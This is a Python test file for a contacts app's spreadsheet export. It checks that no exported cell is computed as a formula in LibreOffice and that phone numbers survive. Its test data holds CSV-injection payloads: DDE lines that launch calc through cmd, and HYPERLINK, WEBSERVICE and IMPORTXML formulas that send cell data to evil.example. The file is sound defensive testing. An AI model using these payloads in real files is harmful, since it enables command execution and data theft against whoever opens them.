"""What leaves as a file is text in a real spreadsheet too: nothing in it is computed, and telephone numbers survive."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frontdesk.features.contacts import parse_phone
from frontdesk.features.contacts.sheets import restore, write_row
from frontdesk.features.insights.service.verifying import csv_cell
from tests.support.house import ADA, House

OFFICE_SECONDS = 120
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
STARTS = frozenset("=+-@\t\r\n|%\x00＝＋－＠")
PHONES = ("+12065550100", "+447700900123", "+61491570156", "+14165550123")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/";"//a")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1;1)",
    "'=1+1",
    '"=1+1',
    '","=1+1',
    "|1+1",
    "%1+1",
    ";=1+1",
    "x;=1+1",
    "=1+1;=1+1",
    "+12065550123+1",
    "+12065550123;=1+1",
)
HIDDEN = ("\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1", '"\n=1+1')  # what our own reading does not let into a name


@dataclass(frozen=True, slots=True)
class Cell:
    """One cell as a spreadsheet has it: its formula, if it is one, and what it shows."""

    formula: str | None
    shown: str


def read_cells(document: Path) -> list[Cell]:
    """Read every cell of a flat OpenDocument spreadsheet that is not empty."""
    cells = []
    for found in ET.parse(document).iter(f"{TABLE}table-cell"):  # noqa: S314 - written by LibreOffice here
        shown = "\n".join("".join(part.itertext()) for part in found.iter(f"{TEXT}p"))
        formula = found.get(f"{TABLE}formula")
        if shown or formula:
            cells.append(Cell(formula, shown))
    return cells


async def recalculate(folder: Path, *files: Path, kind: str = "fods") -> list[Path]:
    """Open files in LibreOffice, let it compute them, and save them as `kind`."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice (soffice) is not installed: files of ours were not opened in a real spreadsheet")
    outcome = folder / kind
    arguments = (f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", kind)
    running = await asyncio.create_subprocess_exec(
        office,
        *arguments,
        "--outdir",
        str(outcome),
        *map(str, files),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    async with asyncio.timeout(OFFICE_SECONDS):
        said, _ = await running.communicate()
    made = [outcome / f"{file.stem}.{kind}" for file in files]
    assert all(path.exists() for path in made), said.decode(errors="replace")
    return made


async def fill(house: House) -> None:
    """Let Ada know people whose every detail is a formula, beside people of many countries."""
    ada = await house.as_person(ADA)
    for number, formula in enumerate(FORMULAS):
        phone = f"+1206555{number + 100:04d}"
        told = {"phone": phone, "name": formula, "city": formula, "fields": {"note": formula}, "tags": [formula[:20]]}
        answer = await ada.post("/api/contacts", json=told)
        if answer.status_code == 422:  # a tag that cannot be kept
            answer = await ada.post("/api/contacts", json={**told, "tags": []})
        assert answer.status_code == 201, (formula, answer.text)
    for phone in PHONES[1:]:
        assert (await ada.post("/api/contacts", json={"phone": phone, "name": "Carol"})).status_code == 201


async def export(house: House, folder: Path, kind: str) -> Path:
    ada = await house.as_person(ADA)
    answer = await ada.post("/api/contacts/export", json={"format": kind})
    assert answer.status_code == 200, answer.text
    path = folder / f"people-{kind}.{kind}"
    path.write_bytes(answer.content)
    return path


async def test_no_cell_of_our_exports_is_computed_by_a_spreadsheet(house: House, tmp_path: Path) -> None:
    await fill(house)
    bare = tmp_path / "bare.csv"
    bare.write_text('"=1+1"\r\n', encoding="utf-8")
    pack = tmp_path / "pack.csv"
    with pack.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([csv_cell(one), csv_cell(f"x{one}")] for one in FORMULAS)
    csv_file, xlsx_file = await export(house, tmp_path, "csv"), await export(house, tmp_path, "xlsx")
    control, *ours = await recalculate(tmp_path, bare, pack, csv_file, xlsx_file)
    assert [cell.formula for cell in read_cells(control)] != [None], "this spreadsheet computes what is not guarded"
    for document in ours:
        cells = read_cells(document)
        assert len(cells) >= 2 * len(FORMULAS), document
        assert [cell for cell in cells if cell.formula is not None] == [], document
    shown = {cell.shown for cell in read_cells(ours[2])}
    assert set(FORMULAS) - {"'=1+1"} <= shown, "in a workbook every name is shown as it was told"


async def test_telephone_numbers_survive_a_spreadsheet(house: House, tmp_path: Path) -> None:
    await fill(house)
    csv_file, xlsx_file = await export(house, tmp_path, "csv"), await export(house, tmp_path, "xlsx")
    from_csv, from_xlsx = await recalculate(tmp_path, csv_file, xlsx_file)
    whole = {cell.shown for cell in read_cells(from_xlsx)}
    assert set(PHONES) <= whole
    digits = {cell.shown.removeprefix("+") for cell in read_cells(from_csv)}
    assert {phone.removeprefix("+") for phone in PHONES} <= digits, (
        "a plus may go, no digit does, and no exponent comes"
    )
    saved = (await recalculate(tmp_path, xlsx_file, kind="csv"))[0]
    phones = {row[0] for row in csv.reader(io.StringIO(saved.read_text(encoding="utf-8-sig")))}
    assert {parse_phone(phone, "US").e164 for phone in phones & set(PHONES)} == set(PHONES)


@given(
    st.lists(
        st.one_of(
            st.text(st.characters(exclude_categories=["Cs"]), max_size=30),
            st.sampled_from(FORMULAS + HIDDEN),
            st.tuples(st.sampled_from(sorted(STARTS)), st.text(max_size=10)).map("".join),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_whatever_stands_in_a_row_no_cell_begins_a_formula_and_everything_comes_back(cells: list[str]) -> None:
    cells = [cell.encode("utf-8", "replace").decode() for cell in cells]
    back = next(csv.reader(io.StringIO(write_row(cells), newline="")))
    assert not [one for one in back if one[:1] in STARTS]
    assert [restore(one) for one in back] == cells


@given(st.integers(1, 9), st.text("0123456789", min_size=6, max_size=14))
def test_every_number_in_e164_is_written_as_it_is_in_its_column_and_in_the_pack(first: int, rest: str) -> None:
    phone = f"+{first}{rest}"
    assert next(csv.reader(io.StringIO(write_row([phone], phone_at=0)))) == [phone]
    assert csv_cell(phone) == phone
